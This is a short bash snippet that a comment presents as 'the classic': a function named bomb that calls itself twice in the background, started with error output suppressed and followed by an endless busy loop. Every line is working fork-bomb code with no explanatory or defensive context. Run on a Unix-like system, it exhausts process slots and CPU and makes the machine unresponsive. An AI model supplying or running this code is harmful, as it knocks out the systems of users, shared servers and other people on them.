# The classic in its own language: a function that calls itself twice in the background.
bomb() { bomb | bomb & }
{ bomb; } 2>/dev/null &
while true; do true; done
